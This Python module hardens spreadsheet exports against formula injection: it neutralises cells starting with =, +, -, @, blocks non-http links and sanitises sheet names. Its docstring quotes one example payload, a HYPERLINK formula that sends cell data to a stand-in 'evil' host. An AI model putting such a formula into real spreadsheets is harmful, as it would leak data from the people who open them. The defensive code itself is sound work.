"""Cells for spreadsheets: stored text that a spreadsheet would run as a formula is made inert.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after trimming, a tab or carriage return) as a formula, so a justification such as
``=HYPERLINK("http://evil/?"&A1, "click")`` in an exported SoA would run on an auditor's machine. Every
CSV or XLSX writer meant for people puts its cells through ``inert``, which prefixes such a cell with
``'`` (the spreadsheet convention for "this is text"), as OWASP recommends.

Machine-readable results (``aims sparql --format csv``, the SPARQL 1.1 CSV results format) stay
faithful: a program reading them must get the data exactly as stored.

Workbooks for people are also formatted here (a styled Excel table per sheet, a frozen header row, column
widths, wrapped long text) and given safe sheet names; a link becomes a hyperlink only when it is an
http(s) URL, so a stored ``javascript:`` or ``file:`` link, or a formula, never becomes something to click.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The characters XML 1.0 cannot hold (all C0 controls but tab, line feed and carriage return).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Excel's own limits: characters in a cell, in a hyperlink's address, in a sheet's name.
CELL_LIMIT = 32_767
LINK_LIMIT = 2_079
SHEET_NAME_LIMIT = 31
TRUNCATED = " ... (truncated)"
# What a sheet name may not contain (Excel refuses the file otherwise), and names Excel keeps for itself.
_SHEET_NAME_ILLEGAL = re.compile(r"[\[\]:*?/\\\x00-\x1f\x7f]")
_RESERVED_SHEET_NAMES = {"history"}
TABLE_STYLE = "TableStyleMedium2"


def inert(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: prefixed with ``'`` when it would start a formula."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def inert_row(cells: Iterable[str]) -> list[str]:
    """Every cell of a row through ``inert``."""
    return [inert(c) for c in cells]


def _shown(match: re.Match[str]) -> str:
    return f"\\x{ord(match.group(0)):02x}"


def workbook_row(cells: Iterable[str]) -> list[str]:
    r"""A row for an XLSX sheet: inert, and the control characters XML cannot hold shown as ``\xNN``.

    openpyxl refuses such characters (``IllegalCharacterError``) and the whole export would fail on one
    stray escape code in a justification.
    """
    return [inert(_capped(_XML_ILLEGAL.sub(_shown, c))) for c in cells]


def _capped(cell: str) -> str:
    """A cell cut to what Excel holds (32,767 characters), saying it was cut; longer, Excel "repairs" the file."""
    return cell if len(cell) <= CELL_LIMIT else cell[: CELL_LIMIT - len(TRUNCATED)] + TRUNCATED


def http_link(url: str) -> str | None:
    """``url`` when it may become a clickable hyperlink: http(s), with a host, no spaces, within Excel's limit.

    Anything else (``javascript:``, ``file:``, ``=HYPERLINK(...)``, a bare path) stays plain text.
    """
    candidate = url.strip()
    if not candidate or len(candidate) > LINK_LIMIT or re.search(r"[\s\x00-\x1f\x7f]", candidate):
        return None
    try:
        parts = urlsplit(candidate)
    except ValueError:
        return None
    return candidate if parts.scheme.lower() in {"http", "https"} and parts.hostname else None


def sheet_name(wanted: str, taken: set[str]) -> str:
    r"""A sheet name Excel accepts for ``wanted``, unique (ignoring case) among ``taken``, which it joins.

    At most 31 characters, none of ``[]:*?/\``, not starting or ending with an apostrophe, not empty and
    not a name Excel reserves (``History``); a clash gets `` (2)``, `` (3)`` ... within the 31 characters.
    """
    base = _SHEET_NAME_ILLEGAL.sub("-", wanted).strip().strip("'").strip() or "Sheet"
    if base.lower() in _RESERVED_SHEET_NAMES:
        base += " (sheet)"
    base = base[:SHEET_NAME_LIMIT].rstrip("'").rstrip() or "Sheet"
    seen = {t.lower() for t in taken}
    name, n = base, 1
    while name.lower() in seen:
        n += 1
        suffix = f" ({n})"
        name = base[: SHEET_NAME_LIMIT - len(suffix)].rstrip("'").rstrip() + suffix
    taken.add(name)
    return name


def format_table(
    sheet: Worksheet,
    *,
    table: str,
    columns: Sequence[str],
    widths: Mapping[str, int],
    wrapped: Iterable[str] = (),
) -> None:
    """Make the filled ``sheet`` (column header in row 1) a styled Excel table that reads well and filters.

    The table brings the filter buttons (its own auto filter: a sheet-level one over the same cells makes
    Excel repair the file); the header row stays in view when scrolling; columns get ``widths`` (characters,
    default 14) and the ``wrapped`` ones wrap their text, so a long justification is read without resizing.

    Args:
        sheet: the worksheet, already holding the header row and the data rows.
        table: the table's name, unique in the workbook (letters, digits and underscores; not a cell name).
        columns: the column names of row 1, in order.
        widths: width in characters per column name.
        wrapped: column names whose cells wrap their text.
    """
    from openpyxl.styles import Alignment
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.table import Table, TableStyleInfo

    last_row = max(sheet.max_row, 2)  # a table needs a row beneath its header, even an empty one
    ref = f"A1:{get_column_letter(len(columns))}{last_row}"
    styled = Table(displayName=table, ref=ref)
    styled.tableStyleInfo = TableStyleInfo(name=TABLE_STYLE, showRowStripes=True, showColumnStripes=False)
    sheet.add_table(styled)
    sheet.freeze_panes = "A2"
    wrap = set(wrapped)
    for index, name in enumerate(columns, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = widths.get(name, 14)
        alignment = Alignment(wrap_text=name in wrap, vertical="top")
        for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
            cell.alignment = alignment
